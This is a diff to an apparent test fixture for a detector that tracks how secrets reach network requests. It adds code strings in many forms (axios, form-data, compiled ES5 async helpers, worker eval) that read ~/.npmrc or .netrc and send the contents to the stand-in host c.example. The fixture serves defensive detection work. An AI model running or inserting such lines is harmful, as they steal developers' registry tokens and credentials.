@@ -3,6 +3,13 @@ import { flows, follow } from './sample.js';
 
 const SECRET = "require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')";
 
+const IMPORT_STAR =
+  "var __importStar = (this && this.__importStar) || function (mod) { if (mod && mod.__esModule) return mod; var result = {}; if (mod != null) for (var k in mod) if (k !== 'default') result[k] = mod[k]; result['default'] = mod; return result; };";
+const AWAITER =
+  "var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) { function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); } return new (P || (P = Promise))(function (resolve, reject) { function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } } function rejected(value) { try { step(generator['throw'](value)); } catch (e) { reject(e); } } function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); } step((generator = generator.apply(thisArg, _arguments || [])).next()); }); };";
+const GENERATOR =
+  "var __generator = (this && this.__generator) || function (thisArg, body) { var _ = { label: 0, sent: function () { if (t[0] & 1) throw t[1]; return t[1]; }, trys: [], ops: [] }, f, y, t, g = {}; return g.next = verb(0), g['throw'] = verb(1), g['return'] = verb(2), g; function verb(n) { return function (v) { return step([n, v]); }; } function step(op) { while (_) try { if (f = 1, y && (t = op[0] & 2 ? y['return'] : op[0] ? y['throw'] : y.next) && !(t = t.call(y, op[1])).done) return t; switch (op[0]) { case 0: case 1: t = op; break; case 4: _.label++; return { value: op[1], done: false }; case 3: _.label = op[1]; continue; } op = body.call(thisArg, _); } catch (e) { op = [6, e]; y = 0; } finally { f = t = 0; } return { value: op[1], done: true }; } };";
+
 /** One way each that a secret may take to a request. */
 const WAYS: Record<string, string> = {
   variable: `const s = ${SECRET}; fetch('https://c.example', { method: 'POST', body: s });`,
@@ -36,6 +43,12 @@ const WAYS: Record<string, string> = {
   'optional chaining': `globalThis?.fetch?.('https://c.example', { body: ${SECRET} });`,
   'tagged template': `const t = (s, ...v) => v[0]; fetch('https://c.example', { body: t\`x\${${SECRET}}\` });`,
   'labelled loop': `let s = ''; a: for (const f of ['.npmrc', '.netrc']) { for (;;) { s += require('fs').readFileSync(require('os').homedir() + '/' + f); continue a; } } fetch('https://c.example', { body: s });`,
+  'form that is submitted': `const F = require('form-data'); const f = new F(); f.append('k', ${SECRET}); f.submit('https://c.example/u', () => {});`,
+  'client with a base address': `const c = require('axios').create({ baseURL: 'https://c.example/api' }); c.post('health', { s: ${SECRET} });`,
+  'module copied by a compiler': `${IMPORT_STAR} var fs = __importStar(require('fs')); var os = __importStar(require('os')); fetch('https://c.example', { body: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') });`,
+  'async function compiled to ES5': `${AWAITER} ${GENERATOR} var fs = require('fs'); function run() { return __awaiter(this, void 0, void 0, function () { var s; return __generator(this, function (_a) { switch (_a.label) { case 0: if (!process.env.X) return [3, 2]; return [4, Promise.resolve(1)]; case 1: _a.sent(); _a.label = 2; case 2: return [4, fs.promises.readFile(require('os').homedir() + '/.npmrc')]; case 3: s = _a.sent(); return [4, fetch('https://c.example', { body: s })]; case 4: _a.sent(); return [2]; } }); }); } run();`,
+  'worker data': `new (require('worker_threads').Worker)("fetch('https://c.example', { body: require('worker_threads').workerData.s })", { eval: true, workerData: { s: ${SECRET} } });`,
+  'one of two commands of one call': `const s = ${SECRET}; fetch(process.platform === 'win32' ? 'https://c.example/?w' : 'https://c.example/?' + s);`,
   'switch on the unknown': `switch (process.platform) { case 'win32': break; default: fetch('https://c.example', { body: ${SECRET} }); }`,
 };
 
